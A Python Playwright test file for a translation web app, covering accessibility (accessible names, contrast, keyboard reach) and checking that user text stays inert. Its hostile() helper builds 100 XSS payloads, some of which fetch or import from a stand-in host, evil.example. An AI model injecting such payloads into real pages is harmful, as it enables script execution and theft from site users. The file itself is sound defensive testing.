"""The page for everyone: keyboard, screen readers, contrast, and texts that try to be markup."""

from typing import Any
from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import Page, expect
from tests.browser.conftest import Opener
from tests.browser.test_page import finished

NAMED = {"button", "checkbox", "combobox", "link", "radio", "slider", "tab", "textbox", "dialog",
         "tabpanel"}  # fmt: skip
CONTRAST = """() => {
  const channels = (text) => text.match(/[\\d.]+/g).map(Number);
  const over = (top, below) => {
    const alpha = top[3] ?? 1;
    return [0, 1, 2].map((i) => alpha * top[i] + (1 - alpha) * below[i]);
  };
  const ground = (node) => node
    ? over(channels(getComputedStyle(node).backgroundColor), ground(node.parentElement))
    : [255, 255, 255];
  const luminance = (colour) => {
    const [r, g, b] = colour.map((c) => c / 255)
      .map((c) => (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const low = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let text = walker.nextNode(); text; text = walker.nextNode()) {
    const node = text.parentElement;
    const unseen = "#backdrop, .unseen, svg, select, :disabled";
    if (!text.data.trim() || !node.checkVisibility() || node.closest(unseen)) continue;
    const below = ground(node);
    const [light, dark] = [below, over(channels(getComputedStyle(node).color), below)]
      .map(luminance).sort((a, b) => b - a);
    const ratio = (light + 0.05) / (dark + 0.05);
    if (ratio < 4.5) low.push(`${text.data.trim().slice(0, 40)}: ${ratio.toFixed(2)}`);
  }
  return low;
}"""
VIEWS = ["", "?source=en&target=de&q=It+rains.+The+child+sleeps.",
         "?source=en&target=de&q=It+rains.#look=attention&view=heat",
         "?source=en&target=de&q=It+rains.#look=attention&view=overview", "docs"]  # fmt: skip


def settled(page: Page, address: str) -> None:
    if "q=" in address:
        finished(page)
    if "look=attention" in address:
        page.wait_for_selector("#panel-attention .cell")


def tree_of(page: Page) -> list[dict[str, Any]]:
    session = page.context.new_cdp_session(page)
    nodes = session.send("Accessibility.getFullAXTree")["nodes"]
    return [node for node in nodes if not node["ignored"]]


@pytest.mark.parametrize("address", VIEWS)
def test_controls_have_names_and_text_has_contrast(open_page: Opener, address: str) -> None:
    page = open_page(address, reduced_motion="reduce")
    settled(page, address)
    tree = tree_of(page)
    nameless = [
        node["role"]["value"]
        for node in tree
        if node["role"]["value"].lower() in NAMED and not node["name"].get("value", "").strip()
    ]
    assert nameless == []
    roles = [node["role"]["value"] for node in tree]
    assert [roles.count(one) for one in ("main", "banner", "contentinfo")] == [1, 1, 1]
    ids = page.locator("[id]").evaluate_all("(nodes) => nodes.map(({id}) => id)")
    assert len(ids) == len({*ids})
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
        assert page.evaluate(CONTRAST) == []


def test_forced_colours_keep_the_weights_apart(open_page: Opener) -> None:
    address = VIEWS[2]
    page = open_page(address, forced_colors="active")
    settled(page, address)
    fills = "(nodes) => nodes.map((node) => getComputedStyle(node).fillOpacity)"
    assert len({*page.locator("#panel-attention .cell").evaluate_all(fills)}) > 5


def focus_of(page: Page) -> str:
    """The focused element: its ID or its name."""
    read = "document.activeElement.id || document.activeElement.getAttribute('aria-label') || ''"
    focused: str = page.evaluate(read)
    return focused


def press_until(page: Page, key: str, wanted: str) -> None:
    seen = []
    for _ in range(60):
        page.keyboard.press(key)
        seen.append(focus_of(page))
        if seen[-1] == wanted:
            return
    raise AssertionError(f"{key} does not reach {wanted}, only {seen}")


def test_every_view_is_reached_by_keyboard(open_page: Opener) -> None:
    page = open_page("?source=en&target=de")
    assert focus_of(page) == "text"
    page.keyboard.type("It rains.")
    finished(page)
    page.wait_for_selector("#look")
    press_until(page, "Tab", "clear")
    press_until(page, "Tab", "share")
    press_until(page, "Tab", "copy")
    press_until(page, "Tab", "file-input")
    page.keyboard.press("Tab")  # the summary of Look inside
    page.keyboard.press("Enter")
    page.wait_for_selector("#panel-attention svg")
    press_until(page, "Tab", "tab-attention")
    press_until(page, "Tab", "It")
    page.keyboard.press("ArrowRight")
    assert focus_of(page) == "rains"
    page.keyboard.press("Enter")
    expect(page.locator("#panel-attention .said")).to_contain_text("“rains” is attended to most by")
    page.keyboard.press("Escape")
    expect(page.locator("#panel-attention .said")).to_have_text("")
    press_until(page, "Shift+Tab", "swap")
    page.keyboard.press("Enter")
    expect(page.locator("#source")).to_have_value("de")
    press_until(page, "Shift+Tab", "history-open")
    page.keyboard.press("Enter")
    expect(page.locator("#history")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#history")).to_be_hidden()


def hostile() -> list[str]:
    """100 texts that would run a script, or load something, if a page took them for markup."""
    calls = ["alert(1)", "window.hit=1", "fetch('//evil.example')", "import('//evil.example')",
             "document.title='hit'"]  # fmt: skip
    forms = ["<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "javascript:{}",
             "<iframe srcdoc='<script>{}</script>'>", '"><body onload={}>', "</textarea><script>{}",
             "'-{}-'", "${{{}}}", "{{{{{}}}}}", "<a href='javascript:{}'>a</a>", "</title><b>{}",
             "<math><mtext><script>{}</script>", "<style>@import '//evil.example';</style>{}",
             "<details open ontoggle={}>", "<input autofocus onfocus={}>", "`{}`", "</s> {} <s>",
             "<!--{}-->", "]]>{}\u202e"]  # fmt: skip
    return [form.format(call) for form in forms for call in calls]


ELEMENTS = "document.querySelectorAll('script, img, iframe, svg, a, b, style').length"


def inert(page: Page) -> None:
    assert page.evaluate("window.hit") is None
    assert page.title() == "transept: translate"


@pytest.mark.slow
def test_hostile_links_and_history_stay_inert(open_page: Opener) -> None:
    texts = hostile()
    assert len({*texts}) == 100
    page = open_page()
    before = page.evaluate(ELEMENTS)
    entries = [{"q": one, "text": one, "source": one, "target": one} for one in texts[:50]]
    entries += [{"q": one, "text": one, "source": "en", "target": "de"} for one in texts[50:]]
    page.evaluate("(e) => localStorage.setItem('transept.history', JSON.stringify(e))", entries)
    page.click("#history-open")
    expect(page.locator("#history-list li")).to_have_count(100)
    assert page.locator("#history-list").inner_text().count("evil.example") >= 100
    assert page.evaluate(ELEMENTS) == before
    for one in texts[::20]:
        parts = {"q": one[:40], "source": one, "target": one}
        page.goto(f"{page.url.partition('?')[0]}?{urlencode(parts)}#look={quote(one)}")
        page.wait_for_selector("#translator")
        assert page.input_value("#text") == one[:40]
        assert page.evaluate(ELEMENTS) == before
        inert(page)


@pytest.mark.slow
def test_hostile_texts_stay_inert(open_page: Opener) -> None:
    texts = hostile()
    page = open_page("?source=en&target=de#look=attention&sinks=on")
    for start in range(0, len(texts), 10):
        some = "\n".join(texts[start : start + 10])
        page.fill("#text", some)
        finished(page)
        assert page.input_value("#text") == some
        inert(page)
    page.fill("#text", texts[0])
    finished(page)
    page.wait_for_selector("#panel-attention svg")
    inert(page)
    before = page.evaluate(ELEMENTS)
    page.fill("#text", "It rains.")
    finished(page)
    page.wait_for_url("**q=It+rains.*")
    page.wait_for_selector("#panel-attention svg")
    assert page.evaluate(ELEMENTS) == before
